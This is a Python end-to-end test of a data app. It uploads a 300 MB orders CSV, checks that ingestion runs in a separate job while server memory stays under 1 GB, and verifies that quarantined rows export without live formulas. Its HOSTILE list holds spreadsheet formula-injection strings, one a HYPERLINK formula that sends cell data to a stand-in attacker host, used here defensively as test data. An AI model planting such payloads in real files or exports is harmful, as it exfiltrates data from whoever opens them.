"""Browser end-to-end: a 300 MB upload through the Data page is ingested by a job in its own process
while the web server's memory stays under 1 GB, and an export of the hostile text it quarantined opens
with no formula cell.

The app is served on its own copy of the tiny build (the shared one must not change), signed in as ops in
Debian's Chromium driven by Playwright. The server's resident memory (the Streamlit process and its
children other than the job) is sampled from /proc from before the upload until the job is over.
"""

from __future__ import annotations

import csv
import io
import json
import math
import os
import re
import shutil
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest

from core.config import Settings
from core.exports import FORMULA_START
from datastore import lake
from liftboard.headless import serve_app
from tests.app.test_e2e import login, settle

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(1200)]

UPLOAD_BYTES = 300_000_000
DATETIME = "%Y-%m-%dT%H:%M:%S%z"
RSS_LIMIT = 1 << 30
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
]


def orders_csv(settings: Settings, path: Path, size: int) -> tuple[int, int]:
    """Write about ``size`` bytes of valid orders (the build's own rows repeated under fresh order ids)
    plus one row per `HOSTILE` text as an order id with a quantity of 0 (quarantined); returns the
    counts of valid and of bad rows."""
    orders = lake.scan_table("orders", settings).collect()
    sample = orders.head(10_000)
    per_row = len(sample.write_csv(datetime_format=DATETIME)) / sample.height
    copies = math.ceil(size / (per_row * orders.height))
    valid = pl.concat([orders] * copies).with_columns(
        order_id=pl.format("u{}", pl.int_range(pl.len()).cast(pl.String).str.zfill(10))
    )
    bad = orders.head(len(HOSTILE)).with_columns(order_id=pl.Series(HOSTILE), quantity=pl.lit(0, pl.Int64))
    pl.concat([valid, bad]).write_csv(path, datetime_format=DATETIME)
    return valid.height, bad.height


def _cmdline(pid: int) -> list[bytes]:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
    except OSError:
        return []


def _parent(pid: int) -> int | None:
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return None
    return int(stat.rsplit(")", 1)[1].split()[1])


def _rss(pid: int) -> int:
    """Resident memory of ``pid`` in bytes (0 once it is gone)."""
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return 0
    match = re.search(r"^VmRSS:\s+(\d+) kB", status, re.MULTILINE)
    return int(match.group(1)) * 1024 if match else 0


def _processes() -> list[int]:
    return [int(entry.name) for entry in Path("/proc").iterdir() if entry.name.isdigit()]


def server_pid(url: str) -> int:
    """The `streamlit run` process serving ``url`` (a child of this test)."""
    port = url.rsplit(":", 1)[1].encode()
    for pid in _processes():
        command = _cmdline(pid)
        if _parent(pid) == os.getpid() and b"streamlit" in command and port in command:
            return pid
    raise AssertionError(f"no streamlit process of this test serves {url}")


@dataclass
class MemorySampler:
    """Samples the server's RSS (its process and every child but the job's) and the job's, every 0.2 s."""

    server: int
    peak_server: int = 0
    peak_job: int = 0
    samples: int = 0
    _stop: threading.Event = field(default_factory=threading.Event)

    def sample(self) -> None:
        children = [pid for pid in _processes() if _parent(pid) == self.server]
        jobs = [pid for pid in children if b"liftboard.jobs" in _cmdline(pid)]
        server = _rss(self.server) + sum(_rss(pid) for pid in children if pid not in jobs)
        self.peak_server = max(self.peak_server, server)
        self.peak_job = max(self.peak_job, sum(_rss(pid) for pid in jobs))
        self.samples += 1

    def run(self) -> None:
        while not self._stop.is_set():
            self.sample()
            self._stop.wait(0.2)

    def __enter__(self) -> MemorySampler:
        self._thread = threading.Thread(target=self.run, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *_exc: object) -> None:
        self._stop.set()
        self._thread.join()


def finished_job(home: Path, timeout: float) -> dict[str, Any]:
    """The status of the one upload job of ``home`` once it is done or failed."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        found = list((home / "jobs").glob("*/status.json"))
        if found:
            status: dict[str, Any] = json.loads(found[0].read_text())
            if status["state"] in ("done", "failed"):
                return status
        time.sleep(0.5)
    raise AssertionError(f"no upload job finished within {timeout:.0f} s")


@pytest.fixture
def own_home(tiny_home: Path, tmp_path: Path) -> Path:
    """A copy of the tiny build (with its users) that this test may change."""
    home = tmp_path / "home"
    shutil.copytree(tiny_home, home, ignore=shutil.ignore_patterns(".ready", "jobs"))
    return home


@pytest.fixture
def page(own_home: Path, tmp_path: Path, chromium: Any) -> Iterator[tuple[Any, str]]:
    """A tab of the shared Chromium (tests/app/conftest.py) and the URL of the app served on ``own_home``."""
    with open(tmp_path / "streamlit.log", "w") as log, serve_app(own_home, log) as url:
        context = chromium.new_context(viewport={"width": 1400, "height": 1000}, accept_downloads=True)
        try:
            yield context.new_page(), url
        finally:
            context.close()


def test_a_300_mb_upload_runs_in_a_job_and_the_server_stays_under_1_gb(
    page: tuple[Any, str], own_home: Path, tmp_path: Path
) -> None:
    tab, url = page
    settings = Settings.from_env(home=own_home)
    started = time.monotonic()
    upload = tmp_path / "orders-upload.csv"
    valid_rows, bad_rows = orders_csv(settings, upload, UPLOAD_BYTES)
    assert upload.stat().st_size >= UPLOAD_BYTES
    stored_before = lake.scan_table("orders", settings).select(pl.len()).collect().item()
    generated = time.monotonic()

    login(tab, url + "/data", "ops")
    tab.get_by_role("tab", name="Upload").click()
    with MemorySampler(server_pid(url)) as memory:
        tab.locator('[data-testid="stFileUploader"] input[type="file"]').set_input_files(str(upload))
        # the submit button is disabled while the file uploads: the click waits for it
        tab.get_by_role("button", name="Ingest").click(timeout=600_000)
        status = finished_job(own_home, timeout=900)
        ingested = time.monotonic()
        # the page follows the job and reruns once it is over, saying what it did
        tab.get_by_text(f"{upload.name} is ingested (run").wait_for(timeout=60_000)
        settle(tab)
        memory.sample()

    print(
        f"\n{upload.stat().st_size / 1e6:,.0f} MB, {valid_rows:,} rows: "
        f"generated in {generated - started:.1f} s, "
        f"uploaded and ingested in {ingested - generated:.1f} s; peak RSS: server "
        f"{memory.peak_server / 2**20:,.0f} MiB, job {memory.peak_job / 2**20:,.0f} MiB "
        f"({memory.samples} samples)"
    )
    assert memory.samples > 10
    assert memory.peak_server < RSS_LIMIT, f"server RSS peaked at {memory.peak_server / 2**20:,.0f} MiB"
    assert status["state"] == "done", status.get("error")
    assert status["pid"] != memory.server
    assert status["result"]["rows_loaded"] == valid_rows
    assert status["result"]["rows_quarantined"] == bad_rows
    stored = lake.scan_table("orders", settings).select(pl.len()).collect().item()
    assert stored == stored_before + valid_rows
    assert not (own_home / "jobs" / status["job_id"] / "input").exists()  # the upload is removed
    assert tab.locator('[data-testid="stException"]').count() == 0

    # the quarantined hostile text, exported from the quarantine browser, runs nowhere
    run_id = status["result"]["run_id"]
    tab.get_by_role("tab", name="Quarantine").click()
    chooser = tab.locator('[data-testid="stSelectbox"]:visible').filter(has_text="Quarantine file")
    if run_id not in chooser.inner_text():
        chooser.click()
        tab.get_by_role("option", name=re.compile(run_id)).click()
        settle(tab)
    # the visible tab's buttons: the quarantined rows' downloads
    buttons = tab.locator('[data-testid="stDownloadButton"] button:visible')
    with tab.expect_download() as excel:
        buttons.filter(has_text="Excel").last.click()
    workbook = openpyxl.load_workbook(io.BytesIO(Path(excel.value.path()).read_bytes()))
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                texts.add(cell.value)
    assert set(HOSTILE) <= texts
    with tab.expect_download() as exported:
        buttons.filter(has_text="CSV").last.click()
    rows = list(csv.DictReader(io.StringIO(Path(exported.value.path()).read_text(encoding="utf-8"))))
    assert {row["order_id"] for row in rows} == {"'" + text for text in HOSTILE}
    assert not any(re.match(FORMULA_START, value) for row in rows for value in row.values() if value)
